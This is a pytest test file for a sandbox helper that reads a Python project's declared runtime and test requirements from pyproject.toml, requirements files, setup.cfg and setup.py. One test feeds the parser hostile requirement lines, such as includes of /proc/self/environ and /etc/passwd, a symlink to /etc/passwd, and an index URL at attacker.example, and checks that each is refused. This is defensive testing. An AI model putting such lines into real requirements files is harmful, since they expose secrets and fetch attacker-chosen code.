"""What a project declares it needs to run and to test, read from every place it may say so."""

from __future__ import annotations

from pathlib import Path

from coderefine.sandbox.requirements import declared


def test_every_place_a_project_declares_its_test_needs(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        "[project]\nname = 'My_Pkg'\ndependencies = ['attrs>=22']\n\n"
        "[project.optional-dependencies]\ntest = ['pytest-mock', 'my-pkg[fast]']\nfast = ['ujson']\n"
        "docs = ['sphinx']\n\n"
        "[dependency-groups]\nTests = ['hypothesis', {include-group = 'lint'}]\nlint = ['ruff']\n"
        "dev = ['sphinx', {include-group = 'tests'}]\n"
    )
    (tmp_path / "requirements.txt").write_text("six==1.16.0\n-e .\n-r base.txt\n# a comment\n")
    (tmp_path / "base.txt").write_text("idna\n./local/wheel\n")
    (tmp_path / "requirements-test.txt").write_text("freezegun  # dates\n")
    (tmp_path / "setup.cfg").write_text("[options]\ntests_require =\n    mock\n")
    (tmp_path / "setup.py").write_text(
        "from setuptools import setup\nsetup(install_requires=['click'], extras_require={'testing': ['responses']},"
        " tests_require=REQS)\n"
    )
    found = declared(tmp_path, extra=["toolz==1.0.0"])
    assert found.requirements == (
        "six==1.16.0",
        "idna",
        "attrs>=22",
        "pytest-mock",
        "ujson",  # the project's own extra, named by a test extra
        "hypothesis",
        "ruff",  # included by the tests group
        "freezegun",
        "mock",
        "click",
        "responses",
        "toolz==1.0.0",
    )
    assert "sphinx" not in found.requirements
    assert found.sources == (
        "requirements.txt",
        "pyproject.toml [project] dependencies",
        "pyproject.toml [project.optional-dependencies] test",
        "pyproject.toml [dependency-groups] tests",
        "requirements-test.txt",
        "setup.cfg tests_require",
        "setup.py install_requires",
        "setup.py extras testing",
        "the test_requirements setting",
    )


def test_a_project_that_declares_nothing(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text("import setuptools\nsetuptools.setup(install_requires=read_them())\n")
    (tmp_path / "pyproject.toml").write_text("not [ toml")
    found = declared(tmp_path)
    assert found.requirements == () and found.text() is None


def test_only_plain_requirements_of_the_repository_are_kept(tmp_path: Path) -> None:
    """A fork's pull request writes these files: a path, a URL, an option or an include out of the
    project would make pip build or read something of the attacker's choosing on the host."""
    project = tmp_path / "proj"
    project.mkdir()
    (tmp_path / "outside.txt").write_text("leaked-name\n")
    (project / "pyproject.toml").write_text(
        "[project]\nname = 'proj'\ndependencies = ['evil @ file:///etc/passwd', 'attrs>=22']\n"
        "[project.optional-dependencies]\ntest = ['pytest-mock']\n"
    )
    (project / "requirements.txt").write_text(
        "-r /proc/self/environ\n"
        "-r ../outside.txt\n"
        "--requirement=more.txt\n"
        "./localpkg\n"
        "-e ./sub\n"
        "-e .[test]\n"
        "git+https://example.com/x/y.git\n"
        "foo @ https://example.com/foo.whl\n"
        "--index-url http://attacker.example/simple\n"
        "-f /tmp\n"
        "six==1.16.0 \\\n    --hash=sha256:0123456789abcdef\n"
        'toolz[all]>=0.12 ; python_version >= "3"  # a comment\n'
        "-c constraints.txt\n"
    )
    (project / "more.txt").write_text("idna\n")
    (project / "requirements-test.txt").symlink_to("/etc/passwd")
    found = declared(project)
    assert found.requirements == (
        "idna",  # included by more.txt, inside the project
        "pytest-mock",  # the project's own test extra, from `-e .[test]`
        "six==1.16.0",
        'toolz[all]>=0.12; python_version >= "3"',
        "attrs>=22",
    )
    refused = {(item.where, item.line, item.why) for item in found.refused}
    assert refused == {
        ("requirements.txt line 1", "/proc/self/environ", "a file outside the project"),
        ("requirements.txt line 2", str(project / "../outside.txt"), "a file outside the project"),
        ("requirements.txt line 4", "./localpkg", "a local path"),
        ("requirements.txt line 5", "-e ./sub", "an editable install"),
        ("requirements.txt line 7", "git+https://example.com/x/y.git", "a local path"),
        ("requirements.txt line 8", "foo @ https://example.com/foo.whl", "a URL"),
        ("requirements.txt line 9", "--index-url http://attacker.example/simple", "an option"),
        ("requirements.txt line 10", "-f /tmp", "an option"),
        ("pyproject.toml [project] dependencies", "evil @ file:///etc/passwd", "a URL"),
        ("requirements-test.txt", str(project / "requirements-test.txt"), "a file outside the project"),
    }
    assert "leaked-name" not in found.requirements
    message = next(item.text() for item in found.refused if item.why == "an option")
    assert message.startswith(
        "requirements.txt line 9: '--index-url http://attacker.example/simple' refused (an option)"
    )


def test_the_operators_requirements_are_held_to_the_same_form(tmp_path: Path) -> None:
    found = declared(tmp_path, extra=["toolz==1.0.0", "--extra-index-url=http://x"])
    assert found.requirements == ("toolz==1.0.0",)
    assert [item.why for item in found.refused] == ["an option"]


def test_dev_is_read_only_where_nothing_else_names_the_tests_needs(tmp_path: Path) -> None:
    """`dev` holds docs and build tools as often as test tools: with a test group it is left out."""
    with_tests = tmp_path / "with_tests"
    with_tests.mkdir()
    (with_tests / "pyproject.toml").write_text(
        "[project]\nname = 'p'\ndependencies = ['attrs']\n"
        "[dependency-groups]\ndev = ['sphinx', 'build', {include-group = 'test'}]\n"
        "test = ['iniconfig', {include-group = 'cov'}]\ncov = ['coverage', {include-group = 'test'}]\n"
    )
    (with_tests / "requirements-dev.txt").write_text("twine\n")
    found = declared(with_tests)
    assert found.requirements == ("attrs", "iniconfig", "coverage")  # the cycle back to test read once
    assert found.origin("coverage") == "pyproject.toml [dependency-groups] test"

    dev_only = tmp_path / "dev_only"
    dev_only.mkdir()
    (dev_only / "setup.py").write_text("from setuptools import setup\nsetup(extras_require={'Dev': ['pytest-mock']})\n")
    (dev_only / "requirements_dev.txt").write_text("six\n")
    found = declared(dev_only)
    assert found.requirements == ("six", "pytest-mock")
    assert found.sources == ("requirements_dev.txt", "setup.py extras dev")


def test_a_setting_leaves_out_requirements_by_name_and_groups_by_group_colon_name(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        "[project]\nname = 'p'\ndependencies = ['attrs', 'Sphinx_RTD-theme>=1']\n"
        "[project.optional-dependencies]\ntest = ['p[docs]', 'six']\ndocs = ['furo']\n"
        "[dependency-groups]\ntesting = ['iniconfig', {include-group = 'typing'}]\ntyping = ['mypy', 'types-six']\n"
    )
    everything = declared(tmp_path)
    assert everything.requirements == ("attrs", "Sphinx_RTD-theme>=1", "furo", "six", "iniconfig", "mypy", "types-six")
    found = declared(tmp_path, extra=["toolz"], exclude=["sphinx-rtd-theme", "group:Typing", "group:docs", "TOOLZ"])
    assert found.requirements == ("attrs", "six", "iniconfig")
    assert declared(tmp_path, exclude=["types-*", "group:test*"]).requirements == ("attrs", "Sphinx_RTD-theme>=1")
